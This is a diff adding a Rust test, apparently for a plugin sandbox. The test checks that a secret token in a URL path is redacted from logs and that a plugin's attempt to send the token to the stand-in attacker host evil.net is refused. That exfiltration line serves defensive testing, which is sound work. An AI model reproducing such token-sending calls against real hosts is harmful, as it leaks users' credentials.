@@ -175,6 +175,28 @@ fn each_use_is_heard_once() {
 }
 
 #[test]
+fn a_secret_in_the_path_is_not_written_down() {
+    let world = Arc::new(World { answer: answer("hello"), ..World::default() });
+    assert_eq!(one(&world, &format!("hook {URL} token")), "200 5 hello");
+    assert_eq!(
+        world.asked.lock().unwrap()[0].url,
+        format!("{URL}hunter2/%68%75%6e%74%65%72%32/x"),
+        "the server gets it"
+    );
+    let place = "[secret token]/[secret token]/x";
+    assert_eq!(uses(&world), ["p: secret token Ok(())", &format!("p: GET {URL}{place} Ok(200) 0 5")]);
+    let refused = one(&world, "hook https://evil.net/ token");
+    assert!(refused.starts_with(&format!("error: GET https://evil.net/{place} is not granted")), "{refused}");
+    let heard = uses(&world);
+    assert!(heard[1].starts_with(&format!("p: GET https://evil.net/{place} Err(")), "{heard:?}");
+    assert!(heard.iter().all(|line| !line.contains("hunter2") && !line.contains("%68")), "{heard:?}");
+    // Nor is a part of it where a long URL is cut.
+    one(&world, &format!("hook {URL}{}/ token", "x".repeat(470)));
+    let heard = uses(&world);
+    assert!(heard[1].contains("xxx/[sec") && !heard[1].contains("hunt"), "{heard:?}");
+}
+
+#[test]
 fn while_it_is_configured_a_plugin_has_nothing() {
     let world = Arc::new(World::default());
     let refused = PLUGIN.instance(Setup { config: mode("start-secret"), ..with(granted(&world)) }).err().unwrap();
